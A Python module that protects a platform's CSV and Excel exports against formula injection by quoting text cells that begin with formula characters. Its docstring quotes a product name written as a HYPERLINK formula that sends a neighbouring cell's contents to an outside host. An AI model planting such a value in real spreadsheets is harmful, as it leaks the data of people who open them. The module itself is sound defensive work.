"""Spreadsheets the platform writes (CSV and Excel), whose text cells stay text when opened.

A spreadsheet program takes a cell that begins with ``=``, ``+``, ``-`` or ``@`` for a formula,
and a tab or carriage return in front of one does not stop it (OWASP, "CSV Injection"). A
listing titled ``=1+2`` became a live formula in the marketplace workbooks, and a product named
``=HYPERLINK("http://…"&A2,"…")`` a live link that sends the next cell away, in the province
dashboard's export. Every CSV and XLSX the platform writes goes through this module:

- text cells that begin with one of those characters get a single quote in front
  (:func:`cell_text`), as OWASP recommends, so the program shows them as typed and never
  evaluates them; the quote is visible, which says the text was not a formula;
- numbers, dates and empty cells keep their type: a negative price stays a number, a date a
  date (only ``str`` values are text);
- in Excel, the control characters XML cannot carry are dropped from text first (openpyxl
  refuses them), so a stray one in a product name does not stop the export.

Neutralising comes before openpyxl sees a value: openpyxl itself turns any string that begins
with ``=`` into a formula cell.
"""

import csv
from collections.abc import Iterable, Sequence
from typing import Any, Protocol, TextIO

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

# The first characters that make a spreadsheet program evaluate a cell (OWASP's list).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def cell_text(text: str) -> str:
    """``text`` as a cell that cannot be taken for a formula."""
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def csv_cell(value: object) -> object:
    """A value for a CSV row: text neutralised, anything else as it is."""
    return cell_text(value) if isinstance(value, str) else value


def xlsx_cell(value: object) -> object:
    """A value for an openpyxl row: text without XML-illegal characters, then neutralised;
    numbers, dates, booleans and ``None`` as they are."""
    if isinstance(value, str):
        return cell_text(ILLEGAL_CHARACTERS_RE.sub("", value))
    return value


def xlsx_row(values: Iterable[object]) -> list[object]:
    return [xlsx_cell(value) for value in values]


class _Sheet(Protocol):
    def append(self, iterable: Any) -> None: ...


def sheet_append(sheet: _Sheet, values: Iterable[object]) -> None:
    """Append a row of ``values`` to an openpyxl worksheet (normal or write-only)."""
    sheet.append(xlsx_row(values))


class CsvWriter:
    """``csv.writer`` whose rows are neutralised cell by cell."""

    def __init__(self, stream: TextIO, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Sequence[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: TextIO, **options: Any) -> CsvWriter:
    """A CSV writer for an export (``options`` as for ``csv.writer``)."""
    return CsvWriter(stream, **options)
